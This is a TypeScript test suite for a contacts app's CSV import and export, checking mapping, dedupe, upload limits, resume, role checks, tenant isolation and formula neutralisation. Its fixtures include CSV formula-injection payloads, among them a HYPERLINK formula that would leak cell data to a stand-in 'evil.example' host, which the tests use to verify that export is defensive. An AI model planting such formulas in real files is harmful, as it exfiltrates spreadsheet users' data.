// CSV import and export over real HTTP (app.inject) and real SQLite: upload → mapping → preview → run →
// report, dedupe against existing contacts and inside the file, the upload limits, cancel and resume,
// the export's filter, formula neutralisation and format, and tenant isolation of every route.
import t, { type Test } from 'tap'
import { and, eq } from 'drizzle-orm'
import { buildTestApp, type TestApp } from '../../../test/helpers/build-test-app.js'
import { addMember, createUser, get, origin, post, signIn } from '../../../test/helpers/accounts.js'
import { auditLog, contactEmails, contactEvents, contactImports, contactLabels, contactPhones, contacts, labels, workspaces } from '../../db/schema.js'
import { createContact } from './contact-edit.service.js'
import { createField } from './contact-fields.service.js'
import { upsertWhatsAppContact } from './contacts.service.js'
import { phoneIndex } from './phone.js'
import { runImport, runPendingImports } from './import.service.js'
import { createSubscription } from '../hooks/hooks.service.js'
import { forgetContact } from './forget.service.js'
import { lookupSql } from './import.store.js'
import { readFile } from 'node:fs/promises'

interface World extends TestApp {
  workspaceId: string
  ownerId: string
  admin: string
  agent: string
  outsider: string
  outsiderWorkspace: string
}

async function world (t: Test): Promise<World> {
  const env = await buildTestApp(t)
  const { deps, app } = env
  const owner = await createUser(deps, { name: 'Olga Owner', workspace: 'Loja Souza' })
  const admin = await createUser(deps, { name: 'Ana Admin' })
  const agent = await createUser(deps, { name: 'Bruno Agent' })
  const outsider = await createUser(deps, { name: 'Otto Outsider', workspace: 'Other shop' })
  const workspaceId = owner.workspaceId!
  addMember(deps, workspaceId, admin.id, 'admin')
  addMember(deps, workspaceId, agent.id, 'agent')
  deps.db.update(workspaces).set({ defaultCountry: 'BR' }).where(eq(workspaces.id, workspaceId)).run()
  return {
    ...env,
    workspaceId,
    ownerId: owner.id,
    admin: await signIn(app, admin),
    agent: await signIn(app, agent),
    outsider: await signIn(app, outsider),
    outsiderWorkspace: outsider.workspaceId!
  }
}

function multipart (file: { filename: string, bytes: Buffer | Uint8Array } | undefined): { payload: Buffer, headers: Record<string, string> } {
  const boundary = '----weltra-import-' + Math.random().toString(16).slice(2)
  const parts: Buffer[] = []
  if (file !== undefined) {
    parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.filename}"\r\nContent-Type: text/csv\r\n\r\n`))
    parts.push(Buffer.from(file.bytes), Buffer.from('\r\n'))
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`))
  return { payload: Buffer.concat(parts), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } }
}

function upload (env: World, cookie: string, filename: string, bytes: Buffer | Uint8Array | undefined) {
  const body = multipart(bytes === undefined ? undefined : { filename, bytes })
  return env.app.inject({ method: 'POST', url: '/contacts/import', payload: body.payload, headers: { ...body.headers, origin, cookie } })
}

/** Uploads a file and returns the import id from the redirect. */
async function uploaded (t: Test, env: World, text: string | Buffer, filename = 'contacts.csv'): Promise<string> {
  const res = await upload(env, env.admin, filename, typeof text === 'string' ? Buffer.from(text) : text)
  t.equal(res.statusCode, 303, `upload of ${filename} accepted`)
  const m = /^\/contacts\/import\/([0-9A-Z]{26})$/.exec(String(res.headers.location))
  if (m === null) throw new Error(`no import id in ${String(res.headers.location)}`)
  return m[1]!
}

const contactsOf = (env: World, ws = env.workspaceId) => env.deps.db.select().from(contacts).where(and(eq(contacts.workspaceId, ws))).all()
const importRow = (env: World, id: string) => env.deps.sqlite.prepare('SELECT status, content, mapping, total_rows AS total, processed_rows AS processed, created_count AS created, updated_count AS updated, skipped_count AS skipped FROM contact_imports WHERE id = ?').get(id) as { status: string, content: string | null, mapping: string | null, total: number, processed: number, created: number, updated: number, skipped: number }

t.test('an admin uploads a Portuguese CSV, maps it, previews the problems, runs it and reads the report', async (t) => {
  const env = await world(t)
  const now = env.clock.now()
  const plan = createField(env.deps.db, { userId: env.ownerId, workspaceId: env.workspaceId }, { label: 'Plano', type: 'select', options: 'Básico\nPro' }, now)
  if (!plan.ok) throw new Error('field')
  // Existing contacts: a WhatsApp contact (no name yet) and a hand-made one with an email.
  const wa = upsertWhatsAppContact(env.deps.db, env.workspaceId, { bsuid: null, waId: '5511987650001', profileName: 'Aninha' }, now)!
  const manual = createContact(env.deps.db, env.workspaceId, { name: 'Carla Existing', emails: ['carla@example.com'] }, env.ownerId, now)
  if (!manual.ok) throw new Error('contact')

  const csv = [
    'Nome;Telefone;E-mail;Etiquetas;Consentimento;Plano;Coluna extra',
    'Ana Souza;(11) 98765-0001;;"VIP; Atacado";sim;pro;x', // row 2: matches the WhatsApp contact → updated, name filled
    'Bruno Lima;+55 21 99999-0002;bruno@example.com;vip;não;Básico;', // row 3: created
    'Telefone Ruim;12;;;;;', // row 4: invalid phone
    'Email Ruim;;not-an-email;;;;', // row 5: bad email
    'Campo Ruim;21 99999-0005;;;;Platina;', // row 6: bad field value
    ';;sem-nome@example.com;;;;', // row 7: no name and no phone
    'Bruno Lima Repetido;552199990002;;Novos;;;', // row 8: same number as row 3 without the 9th digit → merged into row 3
    'Carla Nova;;CARLA@example.com;;opted_in;;', // row 9: matches the existing email → updated (name kept)
    ';;;;;;', // row 10: empty
    '"=HYPERLINK(""http://evil.example"",""x"")";21 98888-0010;;;;;' // row 11: a formula is just a name here
  ].join('\r\n') + '\r\n'
  const id = await uploaded(t, env, csv, 'clientes.csv')
  t.equal(importRow(env, id).status, 'uploaded')
  t.equal(importRow(env, id).total, 10)
  t.ok(!env.deps.sqlite.prepare('SELECT content FROM contact_imports WHERE id = ?').pluck().get(id)!.toString().includes('Bruno'), 'the stored file is sealed')

  // The mapping page: guessed from the Portuguese header, with a preview of the problems.
  const page = await get(env.app, `/contacts/import/${id}`, env.admin)
  t.equal(page.statusCode, 200)
  for (const [i, target] of [[0, 'name'], [1, 'phone'], [2, 'email'], [3, 'labels'], [4, 'consent'], [5, `field:${plan.value.key}`], [6, 'skip']] as const) {
    t.match(page.body, new RegExp(`name="map\\.${i}"[\\s\\S]*?<option value="${target}" selected>`), `column ${i} guessed as ${target}`)
  }
  t.match(page.body, 'Not a valid phone number')
  t.match(page.body, 'Not a valid email address')
  t.match(page.body, 'Invalid value for “Plano”')
  t.match(page.body, 'No name and no phone number')
  t.match(page.body, 'Empty row')
  t.match(page.body, '+55 11 98765 0001', 'phones are shown normalised')
  t.match(page.body, '=HYPERLINK(&quot;http://evil.example&quot;,&quot;x&quot;)', 'cell text is escaped in the page')
  t.match(page.body, '5 of these 10 rows have problems')

  // The preview follows a changed mapping (the htmx fragment, and the page with map.N for browsers without JS).
  const skipPhone = await get(env.app, `/contacts/import/${id}/preview?map.0=name&map.1=skip&map.2=email`, env.admin, { 'hx-request': 'true' })
  t.equal(skipPhone.statusCode, 200)
  t.match(skipPhone.body, /^<section class="card" id="import-preview"/)
  t.notMatch(skipPhone.body, 'Not a valid phone number', 'with the phone column skipped, phones are not checked')
  const nothing = await get(env.app, `/contacts/import/${id}?map.0=skip`, env.admin)
  t.match(nothing.body, 'No column is imported yet')

  // Starting without an identifying column is refused, and nothing is lost.
  const refused = await post(env.app, `/contacts/import/${id}/start`, { 'map.0': 'notes', 'map.1': 'notes' }, env.admin)
  t.equal(refused.statusCode, 422)
  t.match(refused.body, 'Choose at least one column for the name, phone number or email.')
  t.match(refused.body, 'Only one column can be imported as this.')
  t.equal(importRow(env, id).status, 'uploaded')

  const mapping = { 'map.0': 'name', 'map.1': 'phone', 'map.2': 'email', 'map.3': 'labels', 'map.4': 'consent', 'map.5': `field:${plan.value.key}`, 'map.6': 'skip' }
  const started = await post(env.app, `/contacts/import/${id}/start`, mapping, env.admin)
  t.equal(started.statusCode, 303)
  t.equal(started.headers.location, `/contacts/import/${id}`)
  t.equal(importRow(env, id).status, 'running')
  const progress = await get(env.app, `/contacts/import/${id}/progress`, env.admin, { 'hx-request': 'true' })
  t.match(progress.body, 'hx-trigger="every 1s"', 'while running, the progress fragment polls every second')
  t.match(progress.body, '0 of 10 rows')

  t.equal(await runPendingImports(env.deps), 10)
  const row = importRow(env, id)
  t.same({ status: row.status, processed: row.processed, created: row.created, updated: row.updated, skipped: row.skipped }, { status: 'done', processed: 10, created: 2, updated: 3, skipped: 5 })
  t.equal(row.content, null, 'the uploaded content is dropped when the import ends')

  // Dedupe: the WhatsApp contact got its name, labels and consent; no duplicate was created.
  const all = contactsOf(env)
  t.equal(all.length, 4, 'two existing + Bruno + the formula-named contact')
  const ana = all.find(c => c.id === wa.id)!
  t.equal(ana.name, 'Ana Souza')
  t.equal(ana.consent, 'opted_in')
  t.equal(ana.consentSource, 'import')
  t.equal(env.deps.db.select().from(contactPhones).where(eq(contactPhones.contactId, wa.id)).all().length, 0, 'the number it already had as WhatsApp id is not added again')
  const labelNames = (contactId: string): string[] => env.deps.db.select({ name: labels.name }).from(contactLabels).innerJoin(labels, eq(labels.id, contactLabels.labelId)).where(eq(contactLabels.contactId, contactId)).all().map(l => l.name).sort()
  t.same(labelNames(wa.id), ['Atacado', 'VIP'], 'labels are created when missing')
  const bruno = all.find(c => c.name === 'Bruno Lima')!
  t.equal(bruno.consent, 'opted_out')
  t.same(labelNames(bruno.id), ['Novos', 'VIP'], '"vip" reuses VIP; the in-file duplicate (row 8) added its label to the first row\'s contact')
  t.same(env.deps.db.select({ phone: contactPhones.phone }).from(contactPhones).where(eq(contactPhones.contactId, bruno.id)).all(), [{ phone: '+5521999990002' }], 'the legacy spelling is the same number, not a second one')
  t.equal(env.deps.db.select().from(contactPhones).where(and(eq(contactPhones.workspaceId, env.workspaceId), eq(contactPhones.phoneIndex, phoneIndex(env.workspaceId, '5521999990002')))).all().length, 1)
  t.same(env.deps.db.select({ email: contactEmails.email }).from(contactEmails).where(eq(contactEmails.contactId, bruno.id)).all(), [{ email: 'bruno@example.com' }])
  const carla = all.find(c => c.id === manual.contact.id)!
  t.equal(carla.name, 'Carla Existing', 'an existing name is never overwritten')
  t.equal(carla.consent, 'opted_in')
  t.equal(env.deps.db.select().from(contactEmails).where(eq(contactEmails.contactId, carla.id)).all().length, 1, 'the same address in another case is not added twice')
  t.ok(all.some(c => c.name === '=HYPERLINK("http://evil.example","x")'), 'a formula-looking name is stored as text')
  const fieldRow = env.deps.sqlite.prepare('SELECT count(*) AS n FROM contact_field_values WHERE contact_id = ?').get(bruno.id) as { n: number }
  t.equal(fieldRow.n, 1, 'the custom field value is set')
  t.equal(env.deps.db.select().from(contactEvents).where(and(eq(contactEvents.workspaceId, env.workspaceId), eq(contactEvents.kind, 'imported'))).all().length, 5, 'an imported event per created or updated row')

  // The report: counts and skipped rows with their reasons — no cell values.
  const report = await get(env.app, `/contacts/import/${id}`, env.admin)
  t.equal(report.statusCode, 200)
  t.match(report.body, 'Import finished')
  for (const [n, reason] of [[4, 'Not a valid phone number'], [5, 'Not a valid email address'], [6, 'Invalid value for “Plano”'], [7, 'No name and no phone number'], [10, 'Empty row']] as const) {
    t.match(report.body, new RegExp(`<td class="num">${n}</td>\\s*<td>${reason}`), `row ${n}: ${reason}`)
  }
  t.notMatch(report.body, 'hx-trigger="every 1s"', 'no more polling once finished')
  const stored = env.deps.db.select({ report: contactImports.report }).from(contactImports).where(eq(contactImports.id, id)).get()!.report!
  for (const value of ['Telefone Ruim', 'not-an-email', 'Platina', 'sem-nome']) t.notOk(stored.includes(value), `the report holds no cell value (${value})`)
  const fragment = await get(env.app, `/contacts/import/${id}/progress`, env.admin, { 'hx-request': 'true' })
  t.match(fragment.body, 'Skipped rows')

  // One audit entry for the import, with counts only.
  const audits = env.deps.db.select().from(auditLog).where(and(eq(auditLog.workspaceId, env.workspaceId), eq(auditLog.action, 'contacts_imported'))).all()
  t.equal(audits.length, 1)
  t.same(audits[0]!.details, { importId: id, status: 'done', created: 2, updated: 3, skipped: 5 }, 'counts and the import id: not the file name, which can name a person')
  const list = await get(env.app, '/contacts/import', env.admin)
  t.match(list.body, 'clientes.csv')
  t.match(list.body, 'Done')
})

t.test('Windows-1252, UTF-16 and BOM files import with their accents', async (t) => {
  const env = await world(t)
  const latin = Buffer.concat([Buffer.from('name,phone\r\nJos'), Buffer.from([0xE9]), Buffer.from(' Ara'), Buffer.from([0xFA]), Buffer.from('jo,11 97777-0001\r\n')])
  const utf16 = Buffer.concat([Buffer.from([0xFF, 0xFE]), Buffer.from('name\tphone\r\nMaría Núñez\t11 97777-0002\r\n', 'utf16le')])
  const bom = Buffer.concat([Buffer.from([0xEF, 0xBB, 0xBF]), Buffer.from('name,phone\nZoë Çelik,11 97777-0003\n')])
  for (const [file, bytes] of [['excel.csv', latin], ['utf16.csv', utf16], ['bom.csv', bom]] as const) {
    const id = await uploaded(t, env, bytes, file)
    t.equal((await post(env.app, `/contacts/import/${id}/start`, { 'map.0': 'name', 'map.1': 'phone' }, env.admin)).statusCode, 303)
  }
  await runPendingImports(env.deps)
  t.same(contactsOf(env).map(c => c.name).sort(), ['José Araújo', 'María Núñez', 'Zoë Çelik'])
})

t.test('bad uploads are refused with a message that says what to fix, and nothing is stored', async (t) => {
  const env = await world(t)
  const cases: Array<[string, Buffer | undefined, number, string]> = [
    ['no file', undefined, 422, 'Choose a CSV file to upload.'],
    ['empty', Buffer.alloc(0), 422, 'Choose a CSV file to upload.'],
    ['only a header', Buffer.from('name,phone\n'), 422, 'The file has a header line but no rows to import.'],
    ['unbalanced quotes', Buffer.from('name,phone\nAna,1\n"Bruno,2\nCarla,3\n'), 422, 'The quote opened on line 3 is never closed'],
    ['NUL', Buffer.from('name\nAna\0\n'), 422, 'Line 2 contains a NUL character'],
    ['a 2 MB line', Buffer.from('name\n' + 'x'.repeat(2 * 1024 * 1024) + '\n'), 422, 'Line 2 is longer than 1 MB'],
    ['201 columns', Buffer.from(Array.from({ length: 201 }, (_, i) => `c${i}`).join(',') + '\n1\n'), 422, 'Line 1 has more than 200 columns.']
  ]
  for (const [name, bytes, status, message] of cases) {
    const res = await upload(env, env.admin, 'bad.csv', bytes)
    t.equal(res.statusCode, status, `${name}: ${status}`)
    t.match(res.body, message, `${name}: says "${message}"`)
  }
  const big = await upload(env, env.admin, 'big.csv', Buffer.alloc(50 * 1024 * 1024 + 10, 0x61))
  t.equal(big.statusCode, 413, 'over 50 MB: 413')
  t.match(big.body, 'The file is larger than 50 MB. Split it into smaller files')
  const rows = await upload(env, env.admin, 'rows.csv', Buffer.from('p\n' + '1\n'.repeat(1_000_001)))
  t.equal(rows.statusCode, 422)
  t.match(rows.body, 'The file has more than 1,000,000 rows.')
  t.equal(env.count('contact_imports'), 0, 'no import row for a refused file')
})

t.test('an upload can be discarded, a running import stopped; both drop the file', async (t) => {
  const env = await world(t)
  const id = await uploaded(t, env, 'name\nAna\nBia\n')
  const discard = await post(env.app, `/contacts/import/${id}/cancel`, {}, env.admin)
  t.equal(discard.statusCode, 303)
  t.equal(discard.headers.location, '/contacts/import?done=discarded')
  t.same([importRow(env, id).status, importRow(env, id).content], ['cancelled', null])
  t.equal((await post(env.app, `/contacts/import/${id}/start`, { 'map.0': 'name' }, env.admin)).statusCode, 303, 'starting a discarded import just shows it')
  t.equal(importRow(env, id).status, 'cancelled')

  const running = await uploaded(t, env, 'name\n' + Array.from({ length: 30 }, (_, i) => `Person ${i}`).join('\n') + '\n')
  await post(env.app, `/contacts/import/${running}/start`, { 'map.0': 'name' }, env.admin)
  // One batch of 10, then the run is interrupted (a restart): it resumes where it stopped.
  let batches = 0
  t.equal(await runImport(env.deps, env.workspaceId, running, { batchRows: 10, stopped: () => batches++ >= 1 }), 10)
  t.same([importRow(env, running).status, importRow(env, running).processed], ['running', 10])
  t.equal((await post(env.app, `/contacts/import/${running}/cancel`, {}, env.admin)).statusCode, 303)
  await runPendingImports(env.deps)
  const row = importRow(env, running)
  t.same([row.status, row.processed, row.created, row.content], ['cancelled', 10, 10, null], 'stopped after the batch in progress; the file is dropped')
  const page = await get(env.app, `/contacts/import/${running}`, env.admin)
  t.match(page.body, 'The import was stopped after 10 of 30 rows.')
})

t.test('an interrupted import resumes from its last committed batch without duplicates', async (t) => {
  const env = await world(t)
  const id = await uploaded(t, env, 'name,phone\n' + Array.from({ length: 25 }, (_, i) => `P${i},11 9${String(70000000 + i)}`).join('\n') + '\n')
  await post(env.app, `/contacts/import/${id}/start`, { 'map.0': 'name', 'map.1': 'phone' }, env.admin)
  let calls = 0
  t.equal(await runImport(env.deps, env.workspaceId, id, { batchRows: 10, stopped: () => calls++ >= 2 }), 20)
  t.equal(await runPendingImports(env.deps, { batchRows: 10 }), 5)
  t.same([importRow(env, id).created, importRow(env, id).processed, contactsOf(env).length], [25, 25, 25])
})

t.test('rows never land on deleted or merged-away contacts that hold their number or email', async (t) => {
  const env = await world(t)
  const now = env.deps.clock.now()
  const made = (name: string, phone: string, email: string): string => {
    const r = createContact(env.deps.db, env.workspaceId, { name, phones: [phone], emails: [email] }, null, now)
    if (!r.ok) throw new Error(JSON.stringify(r.errors))
    return r.contact.id
  }
  const gone = made('Gone', '+55 11 98888-0001', 'gone@example.com')
  const away = made('Away', '+55 11 98888-0002', 'away@example.com')
  const kept = made('Kept', '+55 11 98888-0003', 'kept@example.com')
  env.deps.db.update(contacts).set({ deletedAt: now }).where(eq(contacts.id, gone)).run()
  env.deps.db.update(contacts).set({ mergedIntoId: kept }).where(eq(contacts.id, away)).run()
  // Another workspace's contact with the same number is never a match either.
  createContact(env.deps.db, env.outsiderWorkspace, { name: 'Elsewhere', phones: ['+55 11 98888-0004'] }, null, now)
  const id = await uploaded(t, env, 'name,phone,email\nN1,11 98888-0001,\nN2,,away@example.com\nN3,1198888-0003,\nN4,11 98888-0004,\n')
  await post(env.app, `/contacts/import/${id}/start`, { 'map.0': 'name', 'map.1': 'phone', 'map.2': 'email' }, env.admin)
  await runPendingImports(env.deps)
  t.same([importRow(env, id).created, importRow(env, id).updated], [3, 1])
  const names = contactsOf(env).filter(c => c.deletedAt === null && c.mergedIntoId === null).map(c => c.name).sort()
  t.same(names, ['Kept', 'N1', 'N2', 'N4'], 'the live holder got row 3; rows 1, 2 and 4 made new contacts')
})

t.test('the per-row lookups search their covering indexes (no scan), without INDEXED BY', async (t) => {
  const env = await world(t)
  const plans: Record<string, string> = {}
  for (const [name, sql] of Object.entries(lookupSql)) {
    t.notMatch(sql, /INDEXED BY/i, `${name}: no INDEXED BY`)
    plans[name] = (env.deps.sqlite.prepare(`EXPLAIN QUERY PLAN ${sql}`).all('w', 'x') as Array<{ detail: string }>).map(r => r.detail).join(' | ')
  }
  t.match(plans.byWaIndex, /^SEARCH contacts USING INDEX contacts_wa_id \(workspace_id=\? AND wa_id_index=\?\)$/)
  t.match(plans.byPhoneIndex, /^SEARCH contact_phones USING COVERING INDEX contact_phones_index \(workspace_id=\? AND phone_index=\?\)$/)
  t.match(plans.byEmailIndex, /^SEARCH contact_emails USING COVERING INDEX contact_emails_index \(workspace_id=\? AND email_index=\?\)$/)
  t.match(plans.live, /^SEARCH contacts USING INDEX contacts_workspace_id \(workspace_id=\? AND id=\?\)$/)
})

t.test('a run yields to the event loop before every batch, even when started from an I/O callback', async (t) => {
  const env = await world(t)
  const id = await uploaded(t, env, 'name\n' + Array.from({ length: 35 }, (_, i) => `Person ${i}`).join('\n') + '\n')
  await post(env.app, `/contacts/import/${id}/start`, { 'map.0': 'name' }, env.admin)
  const seen: string[] = []
  const autoCheckpoint = new Set<number>()
  const before = Number(env.deps.sqlite.pragma('wal_autocheckpoint', { simple: true }))
  // Started from a file read's callback (the poll phase, like a request handler): a timer set during a
  // batch must fire before the next batch starts.
  const rows = await new Promise<number>((resolve, reject) => {
    readFile(new URL(import.meta.url)).then(() => {
      const run = runImport(env.deps, env.workspaceId, id, {
        batchRows: 10,
        onBatch: (b) => {
          seen.push(`batch ${b.rows}`)
          autoCheckpoint.add(Number(env.deps.sqlite.pragma('wal_autocheckpoint', { simple: true })))
          setTimeout(() => seen.push('timer'), 0)
          // A real batch lasts tens of milliseconds: let the timer come due (setTimeout 0 is 1 ms).
          const until = performance.now() + 3
          while (performance.now() < until) { /* wait */ }
        }
      })
      seen.push(`returned, processed ${importRow(env, id).processed}`)
      run.then(resolve, reject)
    }, reject)
  })
  t.equal(rows, 35)
  t.same([...autoCheckpoint], [0], 'the run checkpoints itself: no automatic checkpoint inside its commits')
  t.equal(Number(env.deps.sqlite.pragma('wal_autocheckpoint', { simple: true })), before, 'restored when the run ends')
  t.same(seen.slice(0, 8), ['returned, processed 0', 'batch 10', 'timer', 'batch 10', 'timer', 'batch 10', 'timer', 'batch 5'])
  t.equal(importRow(env, id).status, 'done')
})

t.test('only admins and owners import; agents may export; other workspaces see nothing (404)', async (t) => {
  const env = await world(t)
  const id = await uploaded(t, env, 'name\nAna\n')
  const done = await uploaded(t, env, 'name\nBia\n')
  await post(env.app, `/contacts/import/${done}/start`, { 'map.0': 'name' }, env.admin)
  await runPendingImports(env.deps)
  for (const importId of [id, done]) {
    for (const path of ['', '/preview', '/progress']) {
      t.equal((await get(env.app, `/contacts/import/${importId}${path}`, env.agent)).statusCode, 403, `agent GET ${path || '/'}: 403`)
      t.equal((await get(env.app, `/contacts/import/${importId}${path}`, env.outsider, { 'hx-request': 'true' })).statusCode, 404, `other workspace GET ${path || '/'}: 404`)
    }
    for (const path of ['/start', '/cancel']) {
      t.equal((await post(env.app, `/contacts/import/${importId}${path}`, { 'map.0': 'name' }, env.agent)).statusCode, 403, `agent POST ${path}: 403`)
      t.equal((await post(env.app, `/contacts/import/${importId}${path}`, { 'map.0': 'name' }, env.outsider)).statusCode, 404, `other workspace POST ${path}: 404`)
    }
  }
  t.equal(importRow(env, id).status, 'uploaded', 'nothing the others tried changed it')
  t.equal((await get(env.app, '/contacts/import', env.agent)).statusCode, 403)
  t.equal((await upload(env, env.agent, 'a.csv', Buffer.from('name\nX\n'))).statusCode, 403)
  const theirs = await get(env.app, '/contacts/import', env.outsider)
  t.notMatch(theirs.body, id, 'another workspace\'s list does not show the import')
  t.equal((await get(env.app, '/contacts/import/not-an-id', env.admin)).statusCode, 404)
  t.equal((await get(env.app, '/contacts/export', env.agent)).statusCode, 200, 'agents export')
})

t.test('the export follows the list filter, neutralises formulas, and never crosses workspaces', async (t) => {
  const env = await world(t)
  const now = env.clock.now()
  const tier = createField(env.deps.db, { userId: env.ownerId, workspaceId: env.workspaceId }, { label: 'Tier', type: 'text', options: '' }, now)
  if (!tier.ok) throw new Error('field')
  const id = await uploaded(t, env, [
    'name,phone,email,labels,consent,tier',
    '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",11 96666-0001,evil@example.com,vip,opted_in,+gold',
    'Bia Costa,11 96666-0002;21 96666-0003,bia@example.com;bia2@example.com,vip; lead,opted_out,@silver',
    'Caio Dias,11 96666-0004,,,,-1+1'
  ].join('\n') + '\n')
  await post(env.app, `/contacts/import/${id}/start`, { 'map.0': 'name', 'map.1': 'phone', 'map.2': 'email', 'map.3': 'labels', 'map.4': 'consent', 'map.5': `field:${tier.value.key}` }, env.admin)
  await runPendingImports(env.deps)
  upsertWhatsAppContact(env.deps.db, env.outsiderWorkspace, { bsuid: null, waId: '5511955550000', profileName: 'CANARY-other-workspace' }, now)
  const vip = env.deps.db.select().from(labels).where(and(eq(labels.workspaceId, env.workspaceId), eq(labels.name, 'vip'))).get()!

  const all = await get(env.app, '/contacts/export?format=csv', env.agent)
  t.equal(all.statusCode, 200)
  t.match(String(all.headers['content-type']), /^text\/csv; charset=utf-8/)
  t.match(String(all.headers['content-disposition']), /^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/)
  t.equal(all.headers['cache-control'], 'no-store')
  t.ok(all.body.startsWith('\uFEFFname,whatsapp,phones,emails,labels,consent,tier,created_at\r\n'), 'BOM and header')
  const lines = all.body.trim().split('\r\n')
  t.equal(lines.length, 4, 'header and three contacts')
  t.match(all.body, '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"', 'the formula name is neutralised')
  t.match(all.body, "'+gold")
  t.match(all.body, "'@silver")
  t.match(all.body, "'-1+1")
  t.match(all.body, "'+5511966660002; +5521966660003", 'phones are E.164 text, never a number a spreadsheet would compute')
  t.match(all.body, 'bia@example.com; bia2@example.com')
  t.match(all.body, /Bia Costa,,.*,lead; vip|Bia Costa,,.*,vip; lead/)
  t.notMatch(all.body, 'CANARY', 'nothing of another workspace')
  for (const line of lines) t.notMatch(line, /(^|,)[=+\-@]/, `no cell starts with a formula character: ${line.slice(0, 40)}`)

  const filtered = await get(env.app, `/contacts/export?format=csv&label=${vip.id}&consent=opted_out`, env.agent)
  const rows = filtered.body.trim().split('\r\n')
  t.equal(rows.length, 2, 'label + consent filter: only Bia')
  t.match(rows[1]!, /^Bia Costa,/)

  const json = await get(env.app, '/contacts/export?format=json&q=Caio', env.admin)
  t.match(String(json.headers['content-type']), /^application\/json/)
  t.match(String(json.headers['content-disposition']), /filename="contacts-\d{4}-\d{2}-\d{2}\.json"/)
  const parsed = JSON.parse(json.body) as Array<Record<string, unknown>>
  t.equal(parsed.length, 1)
  t.match(parsed[0], { name: 'Caio Dias', whatsapp: '', phones: ['+5511966660004'], emails: [], labels: [], consent: 'unknown', fields: { tier: '-1+1' } })
  t.same(JSON.parse((await get(env.app, '/contacts/export?format=json&q=nobody-at-all', env.admin)).body), [], 'an empty export is valid JSON')

  const theirs = await get(env.app, '/contacts/export?format=json', env.outsider)
  const theirRows = JSON.parse(theirs.body) as Array<{ name: string }>
  t.same(theirRows.map(r => r.name), ['CANARY-other-workspace'], 'the other workspace exports only its own contact')
  t.equal((await get(env.app, `/contacts/export?format=csv&label=${vip.id}`, env.outsider)).body.trim().split('\r\n').length, 1, 'another workspace\'s label id matches nothing')

  const audits = env.deps.db.select().from(auditLog).where(and(eq(auditLog.workspaceId, env.workspaceId), eq(auditLog.action, 'contacts_exported'))).all()
  t.same(audits.map(a => a.details), [{ format: 'csv', count: 3, complete: true }, { format: 'csv', count: 1, complete: true }, { format: 'json', count: 1, complete: true }, { format: 'json', count: 0, complete: true }], 'each export is audited with its size only')

  // Ticked rows: only those (with the filter still applied); another workspace's id is no way in.
  const everyone = JSON.parse((await get(env.app, '/contacts/export?format=json', env.agent)).body) as Array<{ id: string, name: string }>
  const bia = everyone.find(c => c.name === 'Bia Costa')!
  const caio = everyone.find(c => c.name === 'Caio Dias')!
  const theirId = JSON.parse((await get(env.app, '/contacts/export?format=json', env.outsider)).body)[0].id as string
  const ticked = JSON.parse((await get(env.app, `/contacts/export?format=json&ids=${bia.id}&ids=${caio.id}&ids=${theirId}&ids=not-an-id`, env.agent)).body) as Array<{ name: string }>
  t.same(ticked.map(c => c.name).sort(), ['Bia Costa', 'Caio Dias'], 'the ticked contacts only')
  const tickedAndFiltered = JSON.parse((await get(env.app, `/contacts/export?format=json&ids=${bia.id}&ids=${caio.id}&consent=opted_out`, env.agent)).body) as Array<{ name: string }>
  t.same(tickedAndFiltered.map(c => c.name), ['Bia Costa'], 'the filter still applies to the ticked ones')
  t.same(JSON.parse((await get(env.app, `/contacts/export?format=json&ids=${theirId}`, env.agent)).body), [], 'only another workspace\'s id ticked: nothing')
})

t.test('an import announces each contact it creates or fills to the workspace\'s webhooks', async (t) => {
  const env = await world(t)
  const sub = await createSubscription(env.deps, { userId: env.ownerId, workspaceId: env.workspaceId }, { url: 'https://hooks.example.com/in', description: '', events: ['contact.created', 'contact.updated'] }, async () => [{ address: '93.184.216.34', family: 4 }])
  t.ok(sub.ok)
  const first = await uploaded(t, env, 'name,phone\nAna,11987654321\nBia,11987654322\n')
  await post(env.app, `/contacts/import/${first}/start`, { 'map.0': 'name', 'map.1': 'phone' }, env.admin)
  await runPendingImports(env.deps)
  const queued = (): Array<{ event_type: string }> => env.deps.sqlite.prepare('SELECT event_type FROM webhook_queue ORDER BY id').all() as Array<{ event_type: string }>
  t.same(queued().map(q => q.event_type), ['contact.created', 'contact.created'], 'one contact.created per new contact')
  const second = await uploaded(t, env, 'phone,email\n11987654321,ana@example.com\n')
  await post(env.app, `/contacts/import/${second}/start`, { 'map.0': 'phone', 'map.1': 'email' }, env.admin)
  await runPendingImports(env.deps)
  t.same(queued().map(q => q.event_type).sort(), ['contact.created', 'contact.created', 'contact.updated'], 'a filled contact: contact.updated')
})

t.test('an import skips the numbers and emails of people the workspace was asked to forget', async (t) => {
  const env = await world(t)
  const first = await uploaded(t, env, 'name,phone,email\nAna,11987654321,ana@example.org\nBia,11987654322,\n')
  await post(env.app, `/contacts/import/${first}/start`, { 'map.0': 'name', 'map.1': 'phone', 'map.2': 'email' }, env.admin)
  await runPendingImports(env.deps)
  const ana = contactsOf(env).find(c => c.name === 'Ana')!
  await forgetContact(env.deps, { userId: env.ownerId, workspaceId: env.workspaceId }, ana.id)
  const again = await uploaded(t, env, 'name,phone,email\nAna Again,+55 11 98765-4321,\nAna Mail,,ANA@example.org\nCarla,11987654323,\n')
  await post(env.app, `/contacts/import/${again}/start`, { 'map.0': 'name', 'map.1': 'phone', 'map.2': 'email' }, env.admin)
  await runPendingImports(env.deps)
  t.match(importRow(env, again), { created: 1, skipped: 2 })
  t.same(contactsOf(env).map(c => c.name).sort(), ['Bia', 'Carla'], 'the forgotten person is not brought back, by number or email')
  const report = await get(env.app, `/contacts/import/${again}`, env.admin)
  t.match(report.body, 'A person this workspace was asked to forget')
})
